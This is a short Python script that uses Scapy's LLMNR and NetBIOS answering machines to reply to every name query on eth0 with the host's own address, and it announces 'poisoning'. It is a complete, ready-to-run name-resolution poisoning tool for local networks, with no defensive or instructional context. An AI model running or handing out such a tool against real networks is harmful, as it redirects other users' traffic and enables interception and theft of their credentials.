#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Answer every LLMNR and NetBIOS question on eth0 with the own address, by Scapy's own
answering machines: no such tool is packaged by itself."""

import threading

from scapy.config import conf
from scapy.layers.llmnr import LLMNR_am
from scapy.layers.netbios import NBNS_am

conf.verb = 0
conf.iface = "eth0"
conf.sniff_promisc = False

MACHINES = [LLMNR_am(iface="eth0", verbose=0), NBNS_am(iface="eth0", verbose=0)]

for machine in MACHINES:
    threading.Thread(target=machine).start()
print("poisoning", flush=True)
